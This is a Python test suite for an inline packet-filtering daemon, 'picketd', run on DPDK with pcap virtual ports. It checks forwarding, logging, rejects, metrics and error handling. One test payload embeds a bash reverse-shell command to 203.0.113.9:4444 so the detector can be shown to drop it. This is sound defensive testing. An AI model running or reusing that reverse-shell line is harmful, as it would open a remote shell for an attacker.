#!/usr/bin/env python3
"""picketd inline on a real DPDK EAL, its ports net_pcap vdevs (no hugepages, no NIC): what it
forwards and logs must be what the offline mode forwards and logs for the same capture.

The identities are the demo's without the batch job's end time: inline, packets are judged at
the time they arrive, long after the capture's binding ran out.

usage: inline_test.py TRAFGEN PICKETD POLICY_DIR WORK_DIR
"""
import json
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import time
import unittest
import urllib.error
import urllib.request
import zlib

from captures import demo_capture, file_header, frames, ipv4_tcp, write_pcap

TRAFGEN, PICKETD, POLICY, WORK = sys.argv[1:5]
EAL = ["--no-huge", "--no-pci", "--no-shconf", "-m", "256", "--log-level", "lib.eal:error"]


def flow_key(frame):
    """The same for both directions of an IPv4 TCP/UDP flow, as a symmetric RSS hash is."""
    a, b = frame[26:30] + frame[34:36], frame[30:34] + frame[36:38]
    return zlib.crc32(min(a, b) + max(a, b))


def tcp_frame(src, dst, sport, dport, payload):
    """An Ethernet IPv4 TCP frame (PSH|ACK) carrying `payload`, checksums filled in."""
    return b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + ipv4_tcp(bytes(src), bytes(dst), sport, dport, 0x18, 1000, 1, payload)


def record_keys(path):
    """What a decision record says, without when it was made."""
    keys, flows = [], []
    for line in open(path):
        e = json.loads(line)
        # Flow records come as flows end, which follows the clock: inline the wall's, offline
        # the capture's. Which flows and what they say is the same; their order is not.
        (flows if e["event_type"] == "flow" else keys).append((e["event_type"], e.get("alert", {}).get("signature_id"), e["src_ip"], e.get("src_port"),
                     e["dest_ip"], e.get("dest_port"), json.dumps(e.get("identity"), sort_keys=True),
                     json.dumps(e.get("policy"), sort_keys=True)))
    return keys + sorted(flows)


class Inline(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.capture = demo_capture(TRAFGEN, POLICY, WORK)
        cls.identities = os.path.join(WORK, "live.identities")
        with open(os.path.join(POLICY, "demo.identities")) as src, open(cls.identities, "w") as out:
            out.writelines(l for l in src if "until" not in l)
        # The control API has its own test (control_test.py); here its sockets are off.
        cls.engine_args = ["-q", "--engine", "sw", "-S", os.path.join(POLICY, "demo.rules"),
                           "--policy", os.path.join(POLICY, "demo.policy"), "--identities", cls.identities,
                           "--control", "none"]
        offline = os.path.join(WORK, "offline")
        os.makedirs(offline, exist_ok=True)
        subprocess.run([PICKETD, *cls.engine_args, "-r", cls.capture, "-l", offline], check=True,
                       capture_output=True)
        cls.forwarded = frames(os.path.join(offline, "forwarded.pcap"))
        cls.records = record_keys(os.path.join(offline, "eve.json"))
        cls.input = frames(cls.capture)
        cls.header = open(cls.capture, "rb").read()[:24]

    def run_inline(self, name, args, eal, timeout=60, engine=None):
        eve = os.path.join(WORK, name + ".eve.json")
        if os.path.exists(eve):
            os.remove(eve)
        run = subprocess.run([PICKETD, *(engine or self.engine_args), "--eve", eve, "--stop-when-idle", "300", *args, "--",
                              *EAL, *eal], capture_output=True, text=True, timeout=timeout)
        self.assertEqual(run.returncode, 0, run.stderr)
        self.assertIn("stopped (idle)", run.stdout)
        return run, eve

    def test_one_port_forwards_and_logs_what_offline_does(self):
        out = os.path.join(WORK, "one.out.pcap")
        run, eve = self.run_inline("one", ["--ports", "0"],
                                   ["-l", "0-1", "--vdev", f"net_pcap0,rx_pcap={self.capture},tx_pcap={out}"])
        self.assertEqual(frames(out), self.forwarded)  # the same frames, in the same order
        self.assertEqual(record_keys(eve), self.records)
        dropped = len(self.input) - len(self.forwarded)
        self.assertIn(f"{len(self.input)} received, {len(self.forwarded)} forwarded, {dropped} dropped", run.stdout)
        for line in open(eve):
            self.assertNotIn("pcap_cnt", json.loads(line))  # live records have no capture position

    def test_a_port_pair_forwards_across(self):
        empty = os.path.join(WORK, "empty.pcap")
        write_pcap(empty, self.header, [])
        out0, out1 = os.path.join(WORK, "pair.out0.pcap"), os.path.join(WORK, "pair.out1.pcap")
        run, _ = self.run_inline("pair", ["--ports", "0,1"], [
            "-l", "0-1", "--vdev", f"net_pcap0,rx_pcap={self.capture},tx_pcap={out0}",
            "--vdev", f"net_pcap1,rx_pcap={empty},tx_pcap={out1}"])
        self.assertEqual(frames(out1), self.forwarded)
        self.assertEqual(frames(out0), [])  # nothing goes back out of the port it came in on
        self.assertIn(f"port 1 (net_pcap1): 0 in, {len(self.forwarded)} out", run.stdout)

    def test_two_workers_each_judge_their_queue(self):
        # The frames split by flow over two RX queues, as a symmetric RSS hash would.
        queues = [[f for f in self.input if flow_key(f) % 2 == q] for q in (0, 1)]
        paths = []
        for q in (0, 1):
            paths.append(os.path.join(WORK, f"two.in{q}.pcap"))
            write_pcap(paths[-1], self.header, queues[q])
        outs = [os.path.join(WORK, f"two.out{q}.pcap") for q in (0, 1)]
        # Three lcores on two CPUs: the main one watches, two workers judge.
        run, eve = self.run_inline("two", ["--ports", "0", "--workers", "2"], [
            "--lcores", "0@0,1@1,2@1", "--vdev",
            f"net_pcap0,rx_pcap={paths[0]},rx_pcap={paths[1]},tx_pcap={outs[0]},tx_pcap={outs[1]}"])
        for q in (0, 1):
            self.assertIn(f"worker {q} (lcore {q + 1}, sw): {len(queues[q])} received", run.stdout)
            # Each worker keeps its flows' order, and forwards what offline forwards of them.
            want = [f for f in self.forwarded if flow_key(f) % 2 == q]
            self.assertEqual(frames(outs[q]), want)
        self.assertEqual(sorted(record_keys(eve)), sorted(self.records))

    def test_a_frame_over_several_mbufs_is_judged_whole(self):
        # 6,000-byte frames do not fit one 2 KB mbuf: net_pcap chains three. The attack is in
        # the last one, so only a worker that reads the whole frame drops it.
        attack = tcp_frame([10, 0, 0, 5], [10, 0, 0, 6], 40000, 8080,
                           b"x" * 5900 + b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
        clean = tcp_frame([10, 0, 0, 7], [10, 0, 0, 8], 40001, 8080, b"y" * 5950)
        capture, out = os.path.join(WORK, "jumbo.pcap"), os.path.join(WORK, "jumbo.out.pcap")
        write_pcap(capture, file_header(), [attack, clean])
        rules_only = ["-q", "--engine", "sw", "-S", os.path.join(POLICY, "demo.rules"), "--control", "none"]
        run, eve = self.run_inline("jumbo", ["--ports", "0"],
                                   ["-l", "0-1", "--vdev", f"net_pcap0,rx_pcap={capture},tx_pcap={out}"],
                                   engine=rules_only)
        self.assertEqual(frames(out), [clean])  # forwarded whole, all three pieces
        alerts = [json.loads(l)["alert"]["signature_id"] for l in open(eve) if '"alert"' in l]
        self.assertEqual(alerts, [1000005])
        self.assertIn("2 received, 1 forwarded, 1 dropped", run.stdout)

    def test_a_reject_answers_the_sender_on_its_own_link(self):
        # With one port, the RST leaves where the attack came in: to the sender's MAC.
        attack = tcp_frame([10, 0, 0, 5], [10, 0, 0, 6], 40000, 80, b"GET /evil HTTP/1.0\r\n\r\n")
        rules = os.path.join(WORK, "reject.rules")
        with open(rules, "w") as f:
            f.write('reject tcp any any -> any 80 (content:"/evil"; sid:77;)\n')
        capture, out = os.path.join(WORK, "reject.pcap"), os.path.join(WORK, "reject.out.pcap")
        write_pcap(capture, file_header(), [attack])
        run, _ = self.run_inline("reject", ["--ports", "0"],
                                 ["-l", "0-1", "--vdev", f"net_pcap0,rx_pcap={capture},tx_pcap={out}"],
                                 engine=["-q", "--engine", "sw", "-S", rules, "--control", "none"])
        (answer,) = frames(out)  # the attack itself is dropped
        self.assertEqual(answer[0:6], attack[6:12], "to the sender's MAC")
        self.assertEqual(answer[6:12], attack[0:6], "from the MAC it was sent to")
        self.assertEqual(answer[26:30], bytes([10, 0, 0, 6]))
        self.assertEqual(answer[30:34], bytes([10, 0, 0, 5]))
        self.assertEqual(answer[47] & 0x04, 0x04, "RST")
        self.assertIn("1 reject answers", run.stdout)

    def test_sigterm_stops_it_with_final_counters(self):
        out = os.path.join(WORK, "signal.out.pcap")
        proc = subprocess.Popen([PICKETD, "--engine", "sw", "-S", os.path.join(POLICY, "demo.rules"), "--eve", "-",
                                 "--control", "none", "--ports", "0", "--", *EAL, "-l", "0-1", "--vdev",
                                 f"net_pcap0,rx_pcap={self.capture},tx_pcap={out}"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.time() + 30
        for line in proc.stderr:
            if "SIGINT or SIGTERM stops" in line or time.time() > deadline:
                break
        time.sleep(0.5)
        proc.send_signal(signal.SIGTERM)
        stdout, stderr = proc.communicate(timeout=30)
        self.assertEqual(proc.returncode, 0, stderr)
        self.assertIn("stopped (SIGTERM)", stdout)
        m = re.search(r"(\d+) received, (\d+) forwarded, (\d+) dropped", stdout)
        self.assertTrue(m, stdout)
        received, forwarded, dropped = map(int, m.groups())
        self.assertEqual(received, len(self.input))
        self.assertGreater(dropped, 0)  # the attacks' flows
        self.assertEqual(len(frames(out)), forwarded)

    def test_prometheus_scrapes_the_counters_while_it_runs(self):
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        out = os.path.join(WORK, "metrics.out.pcap")
        proc = subprocess.Popen([PICKETD, *self.engine_args, "--eve", "-", "--stop-when-idle", "4000", "--ports", "0",
                                 "--metrics", f"127.0.0.1:{port}", "--node", "edge-1", "--", *EAL, "-l", "0-1", "--vdev",
                                 f"net_pcap0,rx_pcap={self.capture},tx_pcap={out}"],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        url = f"http://127.0.0.1:{port}/metrics"

        def scrape():
            samples = {}
            for line in urllib.request.urlopen(url, timeout=10).read().decode().splitlines():
                if line and not line.startswith("#"):
                    name, value = line.rsplit(" ", 1)
                    samples[name] = float(value)
            return samples

        samples, deadline = {}, time.time() + 30
        while time.time() < deadline:  # until the capture has gone through
            try:
                samples = scrape()
            except OSError:
                samples = {}
            if samples.get('picket_packets_received_total{node="edge-1"}') == len(self.input):
                break
            time.sleep(0.1)
        dropped = len(self.input) - len(self.forwarded)
        self.assertEqual(samples.get('picket_packets_forwarded_total{node="edge-1"}'), len(self.forwarded), samples)
        by_reason = {k: v for k, v in samples.items() if k.startswith("picket_packets_dropped_total{")}
        self.assertEqual(sum(by_reason.values()), dropped, by_reason)
        self.assertGreater(by_reason['picket_packets_dropped_total{node="edge-1",reason="policy"}'], 0)
        self.assertGreater(by_reason['picket_packets_dropped_total{node="edge-1",reason="signature"}'], 0)
        self.assertEqual(samples['picket_port_packets_total{node="edge-1",port="0",name="net_pcap0",what="in"}'],
                         len(self.input))
        self.assertEqual(samples['picket_info{node="edge-1",engine="sw",state="running"}'], 1)
        # A client that connects and says nothing holds the endpoint no longer than its timeout.
        with socket.create_connection(("127.0.0.1", port)):
            self.assertIn('picket_generation{node="edge-1"} 1', urllib.request.urlopen(url, timeout=10).read().decode())
        with self.assertRaises(urllib.error.HTTPError) as other:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=10)
        self.assertEqual(other.exception.code, 404)
        stdout, stderr = proc.communicate(timeout=60)
        self.assertEqual(proc.returncode, 0, stderr)

    def test_what_it_cannot_use_is_refused(self):
        cases = [  # arguments, exit status, words the error must have
            (["--ports", "3", "--", *EAL, "-l", "0-1", "--vdev", f"net_pcap0,rx_pcap={self.capture},tx_pcap=/dev/null"],
             1, "port 3: no such port"),
            (["--ports", "0", "--", *EAL, "-l", "0", "--vdev", f"net_pcap0,rx_pcap={self.capture},tx_pcap=/dev/null"],
             1, "no worker lcore"),
            (["--", "--no-such-eal-option"], 1, "EAL"),
            (["-r", self.capture, "--", "-l", "0-1"], 2, "do not go together"),
            (["--workers", "0", "--", "-l", "0-1"], 2, "--workers takes a number from 1"),
            (["--metrics", "localhost", "--", "-l", "0-1"], 2, "--metrics: no port"),
        ]
        for args, status, words in cases:
            run = subprocess.run([PICKETD, "-q", "-S", os.path.join(POLICY, "demo.rules"), "--engine", "sw", *args],
                                 capture_output=True, text=True, timeout=60)
            self.assertEqual(run.returncode, status, (args, run.stderr))
            self.assertIn(words, run.stderr, args)


if __name__ == "__main__":
    unittest.main(argv=[sys.argv[0]], verbosity=2)
